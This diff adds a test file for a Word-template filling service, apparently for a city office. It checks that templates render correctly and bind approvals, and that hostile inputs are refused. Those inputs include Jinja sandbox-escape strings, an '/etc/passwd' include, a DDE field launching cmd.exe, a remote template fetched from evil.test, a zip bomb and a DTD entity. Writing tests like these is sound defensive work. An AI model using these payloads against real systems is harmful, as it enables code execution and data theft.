@@ -1,0 +1,214 @@
+"""The city's own Word forms: what they print, what is refused and how it is said, what an approval binds to."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from dataclasses import replace
+from datetime import date
+from pathlib import Path
+
+import docx
+import pytest
+
+from daemon.documents.forms.guard import MOST_BYTES, FormFault
+from daemon.documents.forms.own_forms import (
+    NAMES,
+    WordForm,
+    filled,
+    form_faults,
+    in_own_form,
+    load_forms,
+    strange_forms,
+    words,
+)
+from daemon.documents.forms.samples import FEWEST, FULL, HOSTILE, issued, samples
+from daemon.documents.forms.values import values_of
+from daemon.documents.model import digest, issue
+from daemon.documents.session_papers import build_plan
+from daemon.documents.stored_papers import files_of, from_json, to_json, write
+from tests.support.word_files import word
+
+SHIPPED = Path(__file__).parents[4] / "mail_templates/forms"
+
+
+def with_part(name: str, data: bytes) -> bytes:
+    """A Word file with one part more, or another in its place."""
+    held = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(word("{{ chu_de }}"))) as old,
+        zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for part in old.namelist():
+            if part != name:
+                new.writestr(part, old.read(part))
+        new.writestr(name, data)
+    return held.getvalue()
+
+
+def fault(data: bytes, kind: str = "plan") -> str:
+    """The one line in which a form is refused."""
+    lines = list(form_faults({kind: WordForm(NAMES[kind], data)}))
+    assert len(lines) == 1, "refused"
+    assert "\n" not in lines[0]
+    return lines[0]
+
+
+def test_the_shipped_examples_withstand_the_samples_and_are_what_the_script_makes() -> None:
+    from scripts.make_forms import form
+
+    forms = {kind: WordForm(name, (SHIPPED / name).read_bytes()) for kind, name in NAMES.items()}
+    assert list(form_faults(forms)) == []
+    for one in forms.values():
+        made = form(one.name.removesuffix(".docx"))
+        with zipfile.ZipFile(io.BytesIO(made)) as new, zipfile.ZipFile(io.BytesIO(one.data)) as old:
+            assert new.read("word/document.xml") == old.read("word/document.xml"), (
+                f"{one.name}: run scripts.make_forms"
+            )
+
+
+def test_a_value_is_text_however_it_looks() -> None:
+    text = words(filled("ke-hoach.docx", word("{{ chu_tri }}", "{{ so_van_ban }}"), samples("plan")[0]))
+    assert text.splitlines() == [f"{HOSTILE}, Giám đốc, Sở Xây dựng", "Số: /KH-BBT".replace(": ", ":         ")]
+
+
+def test_every_paper_gives_the_same_names_full_or_not() -> None:
+    for kind, given in FULL.items():
+        assert set(values_of(given)) == set(values_of(FEWEST[kind])), kind
+
+
+@pytest.mark.parametrize(
+    ("paragraph", "told"),
+    [
+        ("Địa chỉ: {{ dia_chi }}", "không có mục “dia_chi”"),
+        ("{% if to_trinh %}{{ dia_chi }}{% endif %}", "không có mục “dia_chi”"),
+        ("{% for l in lanh_dao %}{{ l.email }}{% endfor %}", "email"),
+        ("{{ ''.__class__ }}", "không dùng được tên “__class__”"),
+        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "không dùng được phép"),
+        ("{{ chu_de.upper() }}", "không dùng được phép “Call”"),
+        ("{{ chu_de.format }}", "chỉ in được từng mục"),
+        ("{{ chu_de | attr('__class__') }}", "không có bộ lọc “attr”"),
+        ("{{ muc_dich }}", "chỉ in được từng mục"),
+        ("{{ chu_de * 999999999 }}", "không dùng được phép “Mul”"),
+        ("{% set x = chu_de ~ chu_de %}", "không dùng được phép"),
+        ("{% include '/etc/passwd' %}", "không dùng được phép “Include”"),
+        ("{% macro m() %}{{ m() }}{% endmacro %}", "không dùng được phép “Macro”"),
+        ("{% for a in muc_dich %}" * 4 + "{% endfor %}" * 4, "lồng quá 3 lớp"),
+        ("{% for a in muc_dich %}", "viết sai"),
+        ("{{ chu_de", "không đủ cặp"),
+    ],
+)  # fmt: skip
+def test_a_missing_value_and_a_way_out_of_the_sandbox_are_refused(paragraph: str, told: str) -> None:
+    line = fault(word("Kế hoạch", paragraph))
+    assert line.startswith("mẫu ke-hoach.docx: ")
+    assert told in line
+    assert "; xin " in line, "the remedy"
+
+
+def test_the_place_of_a_fault_is_its_paragraph() -> None:
+    assert "đoạn “Địa chỉ: {{ dia_chi }}”" in fault(word("Kế hoạch", "Địa chỉ: {{ dia_chi }}", "{{ chu_de }}"))
+    assert "đoạn “{% for l in lanh_dao %}{{ l.email }}" in fault(
+        word("Kế hoạch", "{% for l in lanh_dao %}{{ l.email }}{% endfor %}")
+    )
+
+
+RELATIONS = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>'
+)
+DDE = b'<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'
+
+
+@pytest.mark.parametrize(
+    ("data", "told"),
+    [
+        (b"no zip at all", "không mở được như tệp Word"),
+        (b"PK\x03\x04" + bytes(60), "không mở được như tệp Word"),
+        (bytes(MOST_BYTES + 1), "lớn hơn 2 MB"),
+        (with_part("word/media/bomb.bin", bytes(30_000_000)), "bung ra quá lớn"),
+        (with_part("word/document.xml", b"<w>" + b" " * 2_100_000), "quá dài"),
+        (with_part("word/document.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "có khai báo DTD"),
+        (with_part("word/vbaProject.bin", b"x"), "có macro hoặc tệp nhúng"),
+        (with_part("word/embeddings/oleObject1.bin", b"x"), "có macro hoặc tệp nhúng"),
+        (with_part("word/_rels/settings.xml.rels", RELATIONS), "tự tải tệp từ nơi khác"),
+        (with_part("word/footer9.xml", DDE), "tự lấy nội dung từ nơi khác"),
+        (with_part("word/document.xml", b"<broken"), "thân văn bản"),
+        (word(*["{{ chu_de }}"] * 1001), "hơn 1000 chỗ điền"),
+    ],
+    ids=["text", "zip", "large", "bomb", "long", "dtd", "macro", "embedded", "template", "dde", "broken", "tags"],
+)
+def test_a_hostile_or_huge_file_is_refused(data: bytes, told: str) -> None:
+    assert told in fault(data)
+
+
+def test_a_file_that_is_no_word_file_is_refused() -> None:
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w") as archive:
+        archive.writestr("readme.txt", "hello")
+    assert "không phải tệp Word" in fault(held.getvalue())
+
+
+def test_an_approval_binds_the_words_of_the_filled_form_and_not_number_and_day() -> None:
+    given = FULL["plan"]
+    form = {"plan": WordForm("ke-hoach.docx", word("{{ so_van_ban }}", "{{ ngay_van_ban }}", "Về {{ chu_de }}"))}
+    plain = build_plan(given)  # type: ignore[arg-type]
+    made = in_own_form(plain, given, form)
+    assert digest(made) != digest(plain)
+    assert "Về Cấp phép xây dựng" in made.form.text  # type: ignore[union-attr]
+    numbered = issue(made, 5, date(2026, 11, 11))
+    assert digest(numbered) == digest(made)
+    again = in_own_form(plain, given, {"plan": WordForm("ke-hoach.docx", word("Về việc {{ chu_de }}"))})
+    assert digest(again) != digest(made), "another form is another text"
+    other = replace(given, session=replace(given.session, topic="Đường sá"))
+    assert digest(in_own_form(plain, other, form)) != digest(made)
+
+
+def test_what_was_approved_is_issued_in_the_form_of_then() -> None:
+    """The paper carries its form: another one in the folder meanwhile changes nothing."""
+    given = FULL["plan"]
+    form = {"plan": WordForm("ke-hoach.docx", word("{{ so_van_ban }} | {{ ngay_van_ban }}", "Về {{ chu_de }}"))}
+    made = in_own_form(build_plan(given), given, form)  # type: ignore[arg-type]
+    (kept,) = from_json(to_json([made]))
+    assert kept == made
+    (file,) = files_of(issue(kept, 5, date(2026, 11, 11)), "ke-hoach-05")
+    assert file.name == "ke-hoach-05.docx", "no PDF of another layout beside it"
+    assert words(file.data).splitlines() == [
+        "Số: 05/KH-BBT | Hải Phòng, ngày 11 tháng 11 năm 2026", "Về Cấp phép xây dựng"
+    ]  # fmt: skip
+    assert files_of(kept, "a") == files_of(made, "a"), "the same bytes each time"
+
+
+def test_a_paper_without_a_form_is_as_it_was(tmp_path: Path) -> None:
+    given = FULL["plan"]
+    plain = build_plan(given)  # type: ignore[arg-type]
+    assert in_own_form(plain, given, {}) is plain
+    assert [path.suffix for path in write(plain, tmp_path)] == [".docx", ".pdf"]
+
+
+def test_forms_are_found_in_the_folder_and_strange_names_told(tmp_path: Path) -> None:
+    place = tmp_path / "forms"
+    place.mkdir()
+    (place / "ke-hoach.docx").write_bytes(word("{{ chu_de }}"))
+    (place / "kehoach.docx").write_bytes(b"x")
+    (place / "~$ke-hoach.docx").write_bytes(b"Word's own lock")
+    assert list(load_forms(tmp_path)) == ["plan"]
+    assert strange_forms(tmp_path) == ("kehoach.docx",)
+    assert load_forms(None) == {}
+    assert strange_forms(tmp_path / "none") == ()
+
+
+def test_headers_and_footers_are_filled_in_and_approved_too() -> None:
+    file = docx.Document()
+    file.sections[0].header.paragraphs[0].text = "{{ co_quan }}"
+    file.sections[0].footer.paragraphs[0].text = "Chân trang {{ nguoi_ky }}"
+    file.add_paragraph("{{ chu_de }}")
+    held = io.BytesIO()
+    file.save(held)
+    text = words(filled("ke-hoach.docx", held.getvalue(), samples("plan")[0]))
+    assert text.splitlines() == ["Ban Biên tập", "Cấp phép xây dựng", "Chân trang Nguyễn Văn A"]
+
+
+def test_a_fault_of_a_form_is_an_error_of_the_configuration() -> None:
+    with pytest.raises(FormFault, match="không có mục"):
+        filled("ke-hoach.docx", word("{{ x }}"), issued())
